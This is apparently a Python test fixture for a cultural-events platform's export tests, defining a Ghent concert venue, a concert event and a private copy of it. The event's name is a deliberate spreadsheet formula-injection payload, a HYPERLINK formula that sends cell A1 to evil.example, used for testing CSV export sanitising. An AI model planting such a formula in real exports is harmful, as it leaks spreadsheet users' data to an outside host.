"""Records for the export tests: a place, an event with a hostile name, a private event.

Shared by tests/publish, tests/api and tests/cli; the demo data (``cultuurhub.demo``) gives the
bulk around them.
"""

from __future__ import annotations

from dataclasses import dataclass, replace
from typing import Any
from uuid import UUID

from cultuurhub.model import RecordType, parse_record
from cultuurhub.store import Store, draft_from_record

HOSTILE_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"Klik")'
PLACE_ID = UUID("7d2f0a4c-3b1e-4c55-9a3b-0f6f2b1c9e01")
EVENT_ID = UUID("7d2f0a4c-3b1e-4c55-9a3b-0f6f2b1c9e02")
PRIVATE_EVENT_ID = UUID("7d2f0a4c-3b1e-4c55-9a3b-0f6f2b1c9e03")
BASE = "https://demo.cultuurhub.be"

PLACE: dict[str, Any] = {
    "@id": f"{BASE}/places/{PLACE_ID}",
    "mainLanguage": "nl",
    "name": {"nl": "De Bijloke", "fr": "La Biloque"},
    "terms": [{"id": "0.14.0.0.0", "label": "Monument", "domain": "eventtype"}],
    "calendarType": "permanent",
    "address": {
        "nl": {
            "streetAddress": "Bijlokekaai 7",
            "postalCode": "9000",
            "addressLocality": "Gent",
            "addressCountry": "BE",
        }
    },
    # A negative longitude, so that the CSV shows a real negative number.
    "geo": {"latitude": 51.0466, "longitude": -5.0},
    "workflowStatus": "APPROVED",
}

EVENT: dict[str, Any] = {
    "@id": f"{BASE}/events/{EVENT_ID}",
    "mainLanguage": "nl",
    "name": {"nl": HOSTILE_NAME, "en": "Concert"},
    "description": {"nl": "+32 9 269 92 92 voor tickets"},
    "terms": [
        {"id": "0.50.4.0.0", "label": "Concert", "domain": "eventtype"},
        {"id": "1.8.1.0.0", "label": "Klassieke muziek", "domain": "theme"},
    ],
    "location": {"@id": f"{BASE}/places/{PLACE_ID}"},
    "calendarType": "multiple",
    "subEvent": [
        {
            "id": 0,
            "startDate": "2026-12-12T20:00:00+01:00",
            "endDate": "2026-12-12T22:00:00+01:00",
            "status": {"type": "Available"},
        },
        {
            "id": 1,
            "startDate": "2026-12-13T20:00:00+01:00",
            "endDate": "2026-12-13T22:00:00+01:00",
            "status": {"type": "Unavailable", "reason": {"nl": "Zieke solist"}},
        },
    ],
    "priceInfo": [{"category": "base", "name": {"nl": "Basistarief"}, "price": 12.5}],
    "typicalAgeRange": "6-12",
    "labels": ["Vlieg", "UiTPAS Gent"],
    "workflowStatus": "APPROVED",
}


@dataclass(frozen=True)
class Specials:
    """The hand-made records and their owner."""

    owner: UUID
    place: UUID
    event: UUID
    private_event: UUID


def put_specials(store: Store) -> Specials:
    """Store the place, the hostile event and a private copy of it; return their ids."""
    owner = store.create_organisation("Muziekcentrum De Bijloke", "concertzaal").id
    drafts = [
        draft_from_record(RecordType.PLACE, parse_record(RecordType.PLACE, PLACE), owner),
        draft_from_record(RecordType.EVENT, parse_record(RecordType.EVENT, EVENT), owner),
    ]
    private = {**EVENT, "@id": f"{BASE}/events/{PRIVATE_EVENT_ID}", "name": {"nl": "Repetitie"}}
    draft = draft_from_record(RecordType.EVENT, parse_record(RecordType.EVENT, private), owner)
    drafts.append(replace(draft, visibility="private"))
    store.put_batch(drafts, "test")
    return Specials(owner, PLACE_ID, EVENT_ID, PRIVATE_EVENT_ID)
